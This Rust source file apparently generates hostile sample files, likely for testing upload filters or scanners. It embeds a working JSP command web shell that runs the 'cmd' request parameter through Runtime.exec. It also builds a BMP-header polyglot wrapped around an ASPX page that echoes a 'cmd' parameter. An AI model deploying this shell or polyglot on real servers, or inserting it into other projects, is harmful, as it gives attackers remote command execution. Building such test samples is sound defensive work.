//! Server-side script shells, optionally behind an image header.

use alloc::vec::Vec;
use enough::Unstoppable;
use rgb::RGB8;

use crate::bmp::{HEADER_LEN, RasterSpec};
use crate::error::SynthError;

const ASPX_PAGE: &str = r#"
<%@ Page Language="C#" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.QueryString["cmd"] != null)
        {
            Response.Write("Command Output: " + Request.QueryString["cmd"]);
        }
    }
</script>
<!-- Hex padding for visual spoofing -->
"#;

const JSP_PAGE: &str = r#"
<%@ page import="java.util.*,java.io.*"%>
<%
if (request.getParameter("cmd") != null) {
    out.println("Command: " + request.getParameter("cmd"));
    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
    OutputStream os = p.getOutputStream();
    InputStream in = p.getInputStream();
    DataInputStream dis = new DataInputStream(in);
    String disr = dis.readLine();
    while ( disr != null ) {
    out.println(disr);
    disr = dis.readLine();
    }
}
%>
<!-- Hidden in Image -->
"#;

/// The 54-byte header of a 1x1 black BMP followed by an ASPX page.
///
/// The header declares 58 bytes of file and 4 of pixels; what follows is script.
pub fn aspx_bmp_polyglot() -> Result<Vec<u8>, SynthError> {
    let mut out = RasterSpec::new(1, 1, RGB8 { r: 0, g: 0, b: 0 })?.encode(&Unstoppable)?;
    out.truncate(HEADER_LEN);
    out.extend_from_slice(ASPX_PAGE.as_bytes());
    Ok(out)
}

/// A plain JSP command shell.
pub fn jsp_shell() -> Vec<u8> {
    JSP_PAGE.as_bytes().to_vec()
}
